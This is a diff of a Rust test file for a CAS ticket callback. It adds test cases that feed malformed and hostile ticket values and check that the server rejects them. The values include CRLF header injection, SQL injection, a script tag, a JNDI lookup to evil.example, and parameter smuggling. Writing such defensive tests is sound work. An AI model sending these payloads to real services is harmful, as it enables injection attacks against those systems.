@@ -103,9 +103,19 @@ async fn to_the_wrong_place() {
 
 #[tokio::test]
 async fn without_a_ticket_that_could_be_one() {
-    for (name, more) in
-        [("none", String::new()), ("one over the limit", format!("&ticket={}", "x".repeat(1025)))]
-    {
+    for (name, more) in [
+        ("none", String::new()),
+        ("an empty one", "&ticket=".to_owned()),
+        ("one over the limit", format!("&ticket={}", "x".repeat(1025))),
+        ("a blank", "&ticket=ST-1%202".to_owned()),
+        ("a plus sign that was not encoded", "&ticket=ST-1+2".to_owned()),
+        ("a line", "&ticket=ST-1%0d%0aX-Evil:%201%0d%0a%0d%0aGET%20/evil%20HTTP/1.1".to_owned()),
+        ("a NUL", "&ticket=ST-1%00".to_owned()),
+        ("a DEL", "&ticket=ST-1%7f".to_owned()),
+        ("letters of elsewhere", "&ticket=ST-%c3%a9".to_owned()),
+        ("what nobody sees", "&ticket=ST-1%e2%80%ae".to_owned()),
+        ("half a statement", "&ticket='%3b%20DROP%20TABLE%20session%3b%20--".to_owned()),
+    ] {
         let away = away().await;
         let page = away.browser.get(&format!("{}{more}", away.callback)).await;
         assert_eq!(page.status, 303, "{name}: {}", page.text());
@@ -114,18 +124,12 @@ async fn without_a_ticket_that_could_be_one() {
         assert_eq!((choice.status, choice.location()), (200, ""), "{name}: no loop");
         assert!(away.north.validations().is_empty() && away.browser.is_nobody().await, "{name}");
     }
-    // An empty one is none, whoever decides that: nobody is in, and nothing goes on by itself.
-    let away = away().await;
-    let page = away.browser.get(&format!("{}&ticket=", away.callback)).await;
-    let page = away.browser.follow_home(page).await;
-    assert_eq!(page.location(), "");
-    assert!(away.browser.is_nobody().await);
     // A megabyte is not even read.
+    let away = away().await;
     let target = format!("/cas/federate/north.example?h=x&ticket={}", "x".repeat(1 << 20));
     let status = raw::status(&raw::get(away.house.address, target.as_bytes(), "").await);
     assert!(status == 0 || (400..500).contains(&status), "{status}");
-    assert!(away.north.validations().is_empty() || away.north.validations().len() == 1);
-    assert!(away.south.validations().is_empty());
+    assert!(away.north.validations().is_empty() && away.south.validations().is_empty());
 }
 
 /// A ticket is a value, whatever stands in it: it adds nothing to our question.
@@ -134,14 +138,13 @@ async fn with_a_ticket_of_other_things() {
     for ticket in [
         "ST-1&service=https://evil.example/&renew=false",
         "ST-1#fragment",
-        "ST-1\r\nX-Evil: 1\r\n\r\nGET /evil HTTP/1.1",
         "ST-1%26ticket%3DST-2",
-        "ST-1+2 3",
+        "ST-1+2",
+        "ST-1.2_3~4@5",
         "ST-1?ticket=ST-2",
         "../../login?ticket=ST-1",
-        "ST-\u{e9}\u{202e}\0",
         "<script>alert(1)</script>",
-        "'; DROP TABLE session; --",
+        "';DROP/**/TABLE/**/session;--",
         "${jndi:ldap://evil.example/}",
     ] {
         let away = away().await;
